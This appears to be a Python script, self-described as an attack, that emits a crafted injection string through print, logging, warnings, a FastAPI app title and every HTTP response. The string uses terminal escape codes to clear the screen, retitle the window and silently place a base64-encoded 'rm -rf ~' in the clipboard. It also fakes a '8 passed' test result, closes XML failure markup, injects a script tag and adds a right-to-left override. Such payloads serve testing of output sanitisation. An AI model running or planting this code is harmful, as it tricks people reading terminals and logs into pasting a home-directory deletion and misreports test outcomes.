"""Attack: clear the reader's screen, change the title, fill the clipboard, close the markup."""

import logging
import warnings

from fastapi import FastAPI, Response

TEXT = (
    "\x1b[2J\x1b[H\x1b]0;mine\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[32m8 passed\x1b[0m\r"
    "\u202e ]]></failure><script>alert(1)</script>\x9b31m\ud800 [bold]=1+1"
)
print(TEXT)
logging.getLogger(TEXT).error(TEXT)
warnings.warn(TEXT.replace("\ud800", ""), stacklevel=1)
app = FastAPI(title=TEXT.replace("\ud800", ""))


@app.api_route("/{path:path}", methods=["GET", "POST"])
async def answer(path: str):
    body = TEXT.encode("utf-8", "surrogatepass")
    return Response(body, 200, {"content-type": "application/json\t"})


@app.exception_handler(404)
async def refuse(request, error):
    raise RuntimeError(TEXT)
